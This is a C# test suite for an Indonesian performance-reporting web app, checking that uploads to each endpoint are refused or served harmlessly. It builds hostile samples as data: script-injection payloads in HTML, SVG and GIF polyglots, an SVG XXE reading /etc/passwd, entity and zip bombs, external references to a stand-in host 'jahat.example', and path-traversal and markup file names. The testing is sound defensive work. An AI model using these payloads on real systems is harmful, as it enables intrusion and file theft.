using System.IO.Compression;
using System.Net;
using System.Text;
using Microsoft.AspNetCore.Server.Kestrel.Core;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;
using PengumpulanDataKinerja.Tests.Support;

namespace PengumpulanDataKinerja.Tests;

/// <summary>
/// Hostile files at every place that takes one. What is kept is kept as it came, under our own name, and handed out so that no browser
/// opens it; everything else is refused with its sentence, and neither a row nor a file is left.
/// </summary>
public sealed class BerkasBurukTests(KantorMasukan kantor) : IClassFixture<KantorMasukan>
{
    private const string Bukti = "isian/{isian-manajemen}";
    private const string Excel = "isian/{isian-manajemen}/excel";
    private const string Ganti = "bukti/{bukti-manajemen}/ubah";
    private const string Kertas = "tugas/{giliran-4}/kertas";
    private const string Koreksi = "koreksi/baru/{baris-diterima}";
    private const string Lambang = "administrasi/pengaturan/lambang";
    private const string Impor = "data-kinerja/impor";
    private const string Libur = "administrasi/hari-libur/impor";
    private const string Revisi = "data-kinerja/{indikator-revisi}/revisi";
    private const string Verifikasi = "verifikasi";

    // place | file | what becomes of it: a word of the sentence, or "diterima"
    private const string Tabel = """
        isian/{isian-manajemen}         | kosong                   | kosong (0 byte)
        isian/{isian-manajemen}         | pdf terpotong            | tidak utuh
        isian/{isian-manajemen}         | pdf terkunci             | kata sandi
        isian/{isian-manajemen}         | pdf dan html             | diterima
        isian/{isian-manajemen}         | html dan pdf             | bukan jenis berkas
        isian/{isian-manajemen}         | gif dan js               | bukan jenis berkas
        isian/{isian-manajemen}         | svg dengan skrip         | bukan jenis berkas
        isian/{isian-manajemen}         | program                  | program
        isian/{isian-manajemen}         | png dan html             | diterima
        isian/{isian-manajemen}         | xlsx terkunci            | kata sandi
        isian/{isian-manajemen}         | xlsm bernama xlsx        | makro
        isian/{isian-manajemen}         | xlsx bom                 | diterima
        isian/{isian-manajemen}         | daftar isi bom           | tidak utuh
        isian/{isian-manajemen}         | zip 100.000 bagian       | bagian dan tidak dibuka
        isian/{isian-manajemen}         | xlsx XXE                 | tidak utuh
        isian/{isian-manajemen}         | xlsx XXE di lembar       | diterima
        isian/{isian-manajemen}         | xlsx tautan luar         | diterima
        isian/{isian-manajemen}         | docx templat luar        | diterima
        isian/{isian-manajemen}         | docx bernama xlsx        | isinya Word
        isian/{isian-manajemen}         | zip dalam zip            | bukan jenis berkas
        isian/{isian-manajemen}         | 11 MB                    | paling besar 10 MB
        isian/{isian-manajemen}/excel   | kosong                   | kosong (0 byte)
        isian/{isian-manajemen}/excel   | pdf dan html             | Berkas ini PDF
        isian/{isian-manajemen}/excel   | html dan pdf             | halaman web
        isian/{isian-manajemen}/excel   | svg dengan skrip         | teks biasa
        isian/{isian-manajemen}/excel   | program                  | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | xlsx terkunci            | Excel lama (.xls)
        isian/{isian-manajemen}/excel   | xlsm bernama xlsx        | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | xlsx bom                 | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | daftar isi bom           | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | zip 100.000 bagian       | bagian
        isian/{isian-manajemen}/excel   | xlsx XXE                 | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | xlsx XXE di lembar       | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | xlsx tautan luar         | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | docx bernama xlsx        | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | zip dalam zip            | bukan buku kerja Excel
        isian/{isian-manajemen}/excel   | 11 MB                    | lebih besar dari 10 MB
        bukti/{bukti-manajemen}/ubah    | kosong                   | kosong (0 byte)
        bukti/{bukti-manajemen}/ubah    | pdf terkunci             | kata sandi
        bukti/{bukti-manajemen}/ubah    | pdf dan html             | diterima
        bukti/{bukti-manajemen}/ubah    | html dan pdf             | bukan jenis berkas
        bukti/{bukti-manajemen}/ubah    | svg dengan skrip         | bukan jenis berkas
        bukti/{bukti-manajemen}/ubah    | png dan html             | diterima
        bukti/{bukti-manajemen}/ubah    | xlsm bernama xlsx        | makro
        bukti/{bukti-manajemen}/ubah    | 11 MB                    | paling besar 10 MB
        koreksi/baru/{baris-diterima}   | kosong                   | kosong (0 byte)
        koreksi/baru/{baris-diterima}   | pdf terkunci             | kata sandi
        koreksi/baru/{baris-diterima}   | html dan pdf             | bukan jenis berkas
        koreksi/baru/{baris-diterima}   | svg dengan skrip         | bukan jenis berkas
        koreksi/baru/{baris-diterima}   | xlsm bernama xlsx        | makro
        koreksi/baru/{baris-diterima}   | 11 MB                    | paling besar 10 MB
        tugas/{giliran-4}/kertas        | kosong                   | kosong (0 byte)
        tugas/{giliran-4}/kertas        | pdf terkunci             | kata sandi
        tugas/{giliran-4}/kertas        | html dan pdf             | bukan jenis berkas
        tugas/{giliran-4}/kertas        | svg dengan skrip         | bukan jenis berkas
        tugas/{giliran-4}/kertas        | xlsx tautan luar         | bukan pindaian
        tugas/{giliran-4}/kertas        | pdf dan html             | diterima
        tugas/{giliran-4}/kertas        | 11 MB                    | paling besar 10 MB
        data-kinerja/{indikator-revisi}/revisi | kosong                   | kosong (0 byte)
        data-kinerja/{indikator-revisi}/revisi | pdf terkunci             | kata sandi
        data-kinerja/{indikator-revisi}/revisi | html dan pdf             | bukan jenis berkas
        data-kinerja/{indikator-revisi}/revisi | svg dengan skrip         | bukan jenis berkas
        data-kinerja/{indikator-revisi}/revisi | xlsx tautan luar         | bukan pindaian
        data-kinerja/{indikator-revisi}/revisi | pdf dan html             | diterima
        data-kinerja/{indikator-revisi}/revisi | 11 MB                    | paling besar 10 MB
        akun/spesimen                   | kosong                   | Gambarlah tanda tangan
        akun/spesimen                   | pdf dan html             | bukan gambar PNG
        akun/spesimen                   | svg dengan skrip         | bukan gambar PNG
        akun/spesimen                   | gif dan js               | bukan gambar PNG
        akun/spesimen                   | program                  | bukan gambar PNG
        akun/spesimen                   | coretan terpotong        | bukan gambar PNG
        akun/spesimen                   | png bom                  | bukan gambar PNG
        akun/spesimen                   | png raksasa              | bukan gambar PNG
        akun/spesimen                   | png dan html             | bukan gambar PNG
        akun/spesimen                   | coretan dan html         | diterima
        akun/spesimen                   | 11 MB                    | paling besar 1 MB
        administrasi/pengaturan/lambang | kosong                   | kosong
        administrasi/pengaturan/lambang | svg dengan skrip         | tidak diizinkan
        administrasi/pengaturan/lambang | svg XXE                  | bukan gambar PNG atau SVG
        administrasi/pengaturan/lambang | svg bom entitas          | bukan gambar PNG atau SVG
        administrasi/pengaturan/lambang | gif dan js               | bukan gambar PNG atau SVG
        administrasi/pengaturan/lambang | pdf dan html             | bukan gambar PNG atau SVG
        administrasi/pengaturan/lambang | png dan html             | rusak atau terpotong
        administrasi/pengaturan/lambang | png raksasa              | paling besar
        administrasi/pengaturan/lambang | svg                      | diterima
        administrasi/pengaturan/lambang | 11 MB                    | terlalu besar
        data-kinerja/impor              | kosong                   | kosong (0 byte)
        data-kinerja/impor              | pdf dan html             | PDF, bukan buku kerja
        data-kinerja/impor              | svg dengan skrip         | bukan .xlsx
        data-kinerja/impor              | xlsx terkunci            | .xls
        data-kinerja/impor              | xlsm bernama xlsx        | bukan buku kerja Excel
        data-kinerja/impor              | xlsx bom                 | bukan buku kerja Excel
        data-kinerja/impor              | zip 100.000 bagian       | bagian
        data-kinerja/impor              | xlsx XXE                 | buku kerja
        data-kinerja/impor              | 11 MB                    | 10 MB
        administrasi/hari-libur/impor   | kosong                   | kosong (0 byte)
        administrasi/hari-libur/impor   | pdf dan html             | PDF, bukan buku kerja
        administrasi/hari-libur/impor   | html dan pdf             | halaman web
        administrasi/hari-libur/impor   | program                  | bukan buku kerja Excel
        administrasi/hari-libur/impor   | xlsx terkunci            | .xls
        administrasi/hari-libur/impor   | xlsm bernama xlsx        | bukan buku kerja Excel
        administrasi/hari-libur/impor   | zip 100.000 bagian       | bagian
        administrasi/hari-libur/impor   | xlsx XXE                 | buku kerja
        administrasi/hari-libur/impor   | 11 MB                    | 10 MB
        verifikasi                      | kosong                   | Pilih berkas PDF
        verifikasi                      | svg dengan skrip         | bukan PDF
        verifikasi                      | program                  | bukan PDF
        verifikasi                      | pdf dan html             | Tidak cocok
        verifikasi                      | pdf terkunci             | Tidak cocok
        verifikasi                      | 11 MB                    | Tidak cocok
        """;

    private static readonly (string Kasus, string Nama, string Bersih)[] nama =
    [
        ("naik folder", "../../../etc/x.pdf", "x.pdf"), ("Windows", "C:\\Windows\\x.pdf", "x.pdf"), ("UNC", "\\\\peladen\\bagi\\x.pdf", "x.pdf"), ("300 huruf", new string('n', 296) + ".pdf", new string('n', 116) + ".pdf"),
        ("pembalik arah", "laporan\u202Efdp.pdf", "laporanfdp.pdf"), ("perangkat", "CON.pdf", "_CON.pdf"), ("hanya akhiran", ".pdf", "berkas.pdf"), ("persen", "%2e%2e%2fx.pdf", "%2e%2e%2fx.pdf"),
        ("markup", "<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"), ("rumus", "=cmd'!A0.pdf", "=cmd'!A0.pdf"), ("emoji", "🚦 rambu é.pdf", "🚦 rambu é.pdf"), ("titik dua", "x.pdf:rahasia.pdf", "x.pdf_rahasia.pdf"), ("aliran", "x.html::$DATA.pdf", "x.html__$DATA.pdf"),
    ];

    public static TheoryData<string, string> Baris()
    {
        var baris = new TheoryData<string, string>();
        foreach (var (tempat, berkas, _) in Baca())
        {
            baris.Add(tempat, berkas);
        }

        return baris;
    }

    public static TheoryData<string> Nama() => [.. nama.Select(n => n.Kasus)];

    [Theory]
    [MemberData(nameof(Baris))]
    public async Task A_hostile_file_is_kept_harmless_or_refused_and_leaves_nothing(string tempat, string berkas)
    {
        var harapan = Baca().Single(b => b.Tempat == tempat && b.Berkas == berkas).Harapan;
        var (isi, akhiran) = BerkasJahat.Buat(berkas);
        var sebelum = Tersimpan();

        var jawaban = await UnggahAsync(tempat, "uji" + akhiran, isi);

        Assert.True((int)jawaban.Kode < 500, $"{(int)jawaban.Kode} {kantor.Host.Catatan.Baris.LastOrDefault()}");
        if (harapan == "diterima")
        {
            Assert.Equal(HttpStatusCode.Redirect, jawaban.Kode);
            await PeriksaSimpananAsync(tempat, isi);
        }
        else
        {
            Assert.Contains(harapan, jawaban.Teks, StringComparison.Ordinal);
            Assert.True(await kantor.UtuhAsync());
            Assert.Equal(sebelum, Tersimpan());
        }

        Bereskan();
    }

    [Theory]
    [MemberData(nameof(Nama))]
    public async Task A_hostile_name_is_cleaned_and_leads_nowhere(string kasus)
    {
        var (_, kiriman, bersih) = nama.Single(n => n.Kasus == kasus);
        var folder = Directory.GetFileSystemEntries(kantor.Host.Lokasi.Folder).Order(StringComparer.Ordinal).ToList();
        var jawaban = await UnggahAsync(Bukti, kiriman, ContohBerkas.Pdf(kasus));

        Assert.Equal(HttpStatusCode.Redirect, jawaban.Kode);
        Assert.Equal(folder, Directory.GetFileSystemEntries(kantor.Host.Lokasi.Folder).Order(StringComparer.Ordinal));
        var unduhan = await BuktiTerakhirAsync();
        Assert.Equal(("attachment", bersih), (unduhan.Content.Headers.ContentDisposition!.DispositionType, unduhan.Content.Headers.ContentDisposition.FileNameStar ?? unduhan.Content.Headers.ContentDisposition.FileName?.Trim('"')));
        var halaman = await kantor.Peramban("SM").BukaBaikAsync(kantor.Alamat(Bukti));
        Assert.Contains(bersih, halaman.Dokumen.Body!.TextContent, StringComparison.Ordinal);
        Assert.Null(halaman.Dokumen.QuerySelector("img[src=x]"));

        var publik = await UnggahAsync(Verifikasi, kiriman, ContohBerkas.Pdf(kasus));
        Assert.Contains(bersih, publik.Dokumen.Body!.TextContent, StringComparison.Ordinal);
        Assert.DoesNotContain('\u202E', publik.Dokumen.Body.TextContent);
        Bereskan();
    }

    [Fact]
    public async Task A_file_without_a_name_is_no_file()
    {
        var jawaban = await UnggahAsync(Bukti, "", ContohBerkas.Pdf("tanpa nama"));
        Assert.True((int)jawaban.Kode is 302 or 422, $"{(int)jawaban.Kode}");
        Bereskan();
    }

    [Fact]
    public void A_request_that_crawls_is_cut_off()
    {
        // Kestrel's own guards; whoever turns them off meets this test.
        using var lingkup = kantor.Host.Services.CreateScope();
        var batas = lingkup.ServiceProvider.GetRequiredService<IOptions<KestrelServerOptions>>().Value.Limits;
        Assert.InRange(batas.MinRequestBodyDataRate!.BytesPerSecond, 200, 10_000);
        Assert.InRange(batas.MinRequestBodyDataRate.GracePeriod, TimeSpan.FromSeconds(1), TimeSpan.FromSeconds(10));
        Assert.InRange(batas.RequestHeadersTimeout, TimeSpan.FromSeconds(1), TimeSpan.FromSeconds(30));
        Assert.InRange(batas.MaxRequestHeadersTotalSize, 1, 32 * 1024);
        Assert.InRange(batas.MaxRequestBodySize!.Value, 1, 64 * 1024 * 1024);
    }

    [Theory]
    [InlineData("/masuk", 2)]
    [InlineData("/verifikasi", 33)]
    public async Task A_body_past_the_limit_is_told_so_and_not_read(string alamat, int mb)
    {
        // The real server on a port of its own: the in-memory one has no limits.
        await using var host = WebHost.Dengan(("Demo:Aktif", "true"), ("Keamanan:PermintaanMb", "1"));
        host.UseKestrel(0);
        host.StartServer();
        using var klien = host.CreateClient();
        var isi = new MultipartFormDataContent { { new ByteArrayContent(new byte[mb * 1024 * 1024]), "berkas", "besar.pdf" } };
        var permintaan = new HttpRequestMessage(HttpMethod.Post, alamat) { Content = isi };
        permintaan.Headers.ExpectContinue = true;

        using var jawaban = await klien.SendAsync(permintaan);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, jawaban.StatusCode);
        Assert.Contains("lebih besar dari", (await jawaban.Content.ReadAsStringAsync()).Replace("terlalu besar", "lebih besar dari", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    private static IEnumerable<(string Tempat, string Berkas, string Harapan)> Baca() => Tabel.Split('\n').Select(b => b.Split('|', StringSplitOptions.TrimEntries)).Select(b => (b[0], b[1], b[2]));

    private async Task<HalamanUji> UnggahAsync(string tempat, string namaBerkas, byte[] isi)
    {
        var tempatnya = TempatMasukan.Semua[tempat];
        var dasar = await PengirimMasukan.DasarAsync(kantor, tempatnya);
        var muatan = new MultipartFormDataContent();
        foreach (var (nama, nilai) in dasar.Isian.Teks)
        {
            muatan.Add(new StringContent(nilai), $"\"{nama}\"");
        }

        var bagian = new ByteArrayContent(isi);
        bagian.Headers.TryAddWithoutValidation("Content-Type", "text/html");
        var bidang = tempat switch { Impor or Libur => "unggahan", Bukti => "Baris[1].Berkas", Excel => "buku", Lambang or Kertas or Ganti or Revisi or Koreksi => "Berkas", _ => "berkas" };
        bagian.Headers.TryAddWithoutValidation("Content-Disposition", $"form-data; name=\"{bidang}\"; filename=\"{namaBerkas.Replace("\\", "\\\\", StringComparison.Ordinal)}\"; filename*=utf-8''{Uri.EscapeDataString(namaBerkas)}");
        muatan.Add(bagian);
        return await PengirimMasukan.KirimAsync(kantor, tempatnya, dasar.Isian, muatan);
    }

    private async Task PeriksaSimpananAsync(string tempat, byte[] isi)
    {
        switch (tempat)
        {
            case Bukti or Ganti:
                var unduhan = await BuktiTerakhirAsync();
                Assert.Equal(isi, await unduhan.Content.ReadAsByteArrayAsync());
                Assert.Equal("attachment", unduhan.Content.Headers.ContentDisposition!.DispositionType);
                PastikanTerkurung(unduhan);
                var tampilan = await kantor.Peramban("SM").MintaAsync(HttpMethod.Get, unduhan.RequestMessage!.RequestUri!.AbsolutePath + "/isi");
                if (tampilan.IsSuccessStatusCode)
                {
                    PastikanTerkurung(tampilan);
                    Assert.Equal(unduhan.Content.Headers.ContentType, tampilan.Content.Headers.ContentType);
                }

                break;
            case Kertas:
                var daftar = await kantor.Peramban("KP").BukaBaikAsync("/triwulan/2024/4/kertas");
                var pindaian = await kantor.Peramban("KP").MintaAsync(HttpMethod.Get, daftar.Dokumen.QuerySelector("a[href^='/kertas/']")!.GetAttribute("href")!);
                Assert.Equal(isi, await pindaian.Content.ReadAsByteArrayAsync());
                Assert.Equal("attachment", pindaian.Content.Headers.ContentDisposition!.DispositionType);
                PastikanTerkurung(pindaian);
                break;
            case Revisi:
                var semua = await kantor.Peramban("KP").BukaBaikAsync("/data-kinerja/" + kantor.Objek["indikator-revisi"]);
                var dokumen = await kantor.Peramban("KP").MintaAsync(HttpMethod.Get, semua.Dokumen.QuerySelector("a[href^='/data-kinerja/revisi/']")!.GetAttribute("href")! + "/dokumen");
                Assert.Equal(isi, await dokumen.Content.ReadAsByteArrayAsync());
                Assert.Equal("attachment", dokumen.Content.Headers.ContentDisposition!.DispositionType);
                PastikanTerkurung(dokumen);
                break;
            case Lambang:
                var gambar = await kantor.Peramban("AD").MintaAsync(HttpMethod.Get, "/administrasi/pengaturan/lambang");
                Assert.Equal(isi, await gambar.Content.ReadAsByteArrayAsync());
                PastikanTerkurung(gambar);
                break;
            default:
                // Drawn anew: nothing of the file but its ink is left.
                var halaman = await kantor.Peramban("KD").BukaBaikAsync("/akun/spesimen");
                var png = Convert.FromBase64String(halaman.Dokumen.QuerySelector("img.spesimen-besar")!.GetAttribute("src")!.Split(',')[1]);
                Assert.DoesNotContain("<script", Encoding.Latin1.GetString(png), StringComparison.Ordinal);
                break;
        }
    }

    private static void PastikanTerkurung(HttpResponseMessage jawaban)
    {
        Assert.Equal("nosniff", jawaban.Headers.GetValues("X-Content-Type-Options").Single());
        var csp = jawaban.Headers.GetValues("Content-Security-Policy").Single();
        Assert.Contains("default-src 'none'", csp, StringComparison.Ordinal);
        Assert.Contains("sandbox", csp, StringComparison.Ordinal);
        Assert.DoesNotContain("allow-", csp, StringComparison.Ordinal);
        Assert.NotEqual("text/html", jawaban.Content.Headers.ContentType!.MediaType);
    }

    private async Task<HttpResponseMessage> BuktiTerakhirAsync()
    {
        var halaman = await kantor.Peramban("SM").BukaBaikAsync(kantor.Alamat(Bukti));
        return await kantor.Peramban("SM").MintaAsync(HttpMethod.Get, halaman.Dokumen.QuerySelectorAll("a[href^='/bukti/']:not([href*='/lihat'])")[^1].GetAttribute("href")!);
    }

    private int Tersimpan() => Directory.GetFiles(kantor.Host.Lokasi.Berkas, "*", SearchOption.AllDirectories).Length;

    private void Bereskan()
    {
        if (kantor.Berubah)
        {
            kantor.Pulihkan();
        }
    }
}

/// <summary>Files made for harm.</summary>
internal static class BerkasJahat
{
    private const string Xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    private const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private const string Skrip = "<html><script>alert(1)</script></html>";

    public static (byte[] Isi, string Akhiran) Buat(string jenis) => jenis switch
    {
        "kosong" => ([], ".pdf"),
        "pdf terpotong" => (ContohBerkas.Buat("pdf-terpotong"), ".pdf"),
        "pdf terkunci" => (ContohBerkas.Buat("pdf-terkunci"), ".pdf"),
        "pdf dan html" => (ContohBerkas.Pdf(Skrip), ".pdf"),
        "html dan pdf" => ([.. Bita(Skrip), .. ContohBerkas.Pdf("x")], ".pdf"),
        "gif dan js" => (Bita("GIF89a=1;alert(document.domain)//"), ".png"),
        "svg dengan skrip" => (Bita("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), ".svg"),
        "svg XXE" => (Bita("<!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><svg xmlns='http://www.w3.org/2000/svg'><text>&e;</text></svg>"), ".svg"),
        "svg bom entitas" => (Bita("<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><svg xmlns='http://www.w3.org/2000/svg'><text>&c;</text></svg>"), ".svg"),
        "svg" => (Bita("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"), ".svg"),
        "program" => (ContohBerkas.Buat("program"), ".pdf"),
        "png dan html" => ([.. ContohBerkas.Buat("png"), .. Bita(Skrip)], ".png"),
        "png bom" => (PngUji.Susun(3000, 3000, new byte[64]), ".png"),
        "png raksasa" => (PngUji.Susun(60000, 60000, new byte[64]), ".png"),
        "coretan terpotong" => (PngUji.Coretan()[..200], ".png"),
        "coretan dan html" => ([.. PngUji.Coretan(), .. Bita(Skrip)], ".png"),
        "xlsx terkunci" => (ContohBerkas.Buat("ole"), ".xlsx"),
        "xlsm bernama xlsx" => (Paket(("[Content_Types].xml", Tipe("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml")), ("xl/workbook.xml", "<x/>"), ("xl/makro.bin", "x")), ".xlsx"),
        "xlsx bom" => (Paket(("[Content_Types].xml", Tipe(Xlsx, "xl/workbook.xml")), ("xl/workbook.xml", "<x/>"), ("xl/worksheets/sheet1.xml", new string(' ', 64 * 1024 * 1024))), ".xlsx"),
        "daftar isi bom" => (Paket(("[Content_Types].xml", $"<Types>{new string(' ', 8 * 1024 * 1024)}</Types>"), ("xl/workbook.xml", "<x/>")), ".xlsx"),
        "zip 100.000 bagian" => (Paket([("[Content_Types].xml", Tipe(Xlsx, "xl/workbook.xml")), ("xl/workbook.xml", "<x/>"), .. Enumerable.Range(0, 100_000).Select(n => ($"x/{n}", ""))]), ".xlsx"),
        "xlsx XXE" => (ContohBerkas.Buat("xxe"), ".xlsx"),
        "xlsx XXE di lembar" => (Paket(("[Content_Types].xml", Tipe(Xlsx, "xl/workbook.xml")), ("xl/workbook.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://jahat.example/\">]><x>&e;</x>")), ".xlsx"),
        "xlsx tautan luar" => (Paket(("[Content_Types].xml", Tipe(Xlsx, "xl/workbook.xml")), ("xl/workbook.xml", "<x/>"), ("xl/_rels/workbook.xml.rels", "<Relationships><Relationship Target=\"http://jahat.example/\" TargetMode=\"External\"/></Relationships>")), ".xlsx"),
        "docx templat luar" => (Paket(("[Content_Types].xml", Tipe(Docx, "word/document.xml")), ("word/document.xml", "<x/>"), ("word/_rels/settings.xml.rels", "<Relationships><Relationship Target=\"http://jahat.example/x.dotm\" TargetMode=\"External\"/></Relationships>")), ".docx"),
        "docx bernama xlsx" => (ContohBerkas.Buat("docx"), ".xlsx"),
        "zip dalam zip" => (Paket(("dalam.zip", "PK")), ".xlsx"),
        "11 MB" => ([.. ContohBerkas.Pdf("besar"), .. new byte[11 * 1024 * 1024]], ".pdf"),
        _ => throw new ArgumentOutOfRangeException(nameof(jenis)),
    };

    private static byte[] Bita(string teks) => Encoding.UTF8.GetBytes(teks);

    private static string Tipe(string tipe, string bagian) => $"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/{bagian}\" ContentType=\"{tipe}\"/></Types>";

    private static byte[] Paket(params (string Nama, string Isi)[] bagian)
    {
        using var isi = new MemoryStream();
        using (var paket = new ZipArchive(isi, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (nama, teks) in bagian)
            {
                using var tulis = new StreamWriter(paket.CreateEntry(nama, CompressionLevel.Fastest).Open());
                tulis.Write(teks);
            }
        }

        return isi.ToArray();
    }
}
